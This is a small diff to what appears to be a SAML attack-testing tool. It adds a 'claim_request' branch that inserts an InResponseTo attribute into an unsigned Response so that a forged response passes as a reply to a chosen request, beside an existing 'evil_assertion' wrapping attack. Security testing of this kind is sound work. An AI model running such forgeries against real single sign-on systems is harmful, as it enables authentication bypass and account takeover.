@@ -209,6 +209,12 @@ def attack(xml, kind, spec):
                 "<%s:Status><%s:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></%s:Status>%s</%s:Response>"
                 % (prefix, attrs, prefix, original, prefix, prefix, prefix, prefix,
                    evil_assertion(xml, spec), prefix))
+    if kind == "claim_request":
+        # An unsolicited response given an InResponseTo on its (unsigned)
+        # Response element, to pass as the answer to spec["claim"].
+        root = re.search(r"<(\w+):Response\b", xml)
+        at = root.end()
+        return xml[:at] + ' InResponseTo="%s"' % spec["claim"] + xml[at:]
     raise ValueError("unknown attack " + kind)
 
 
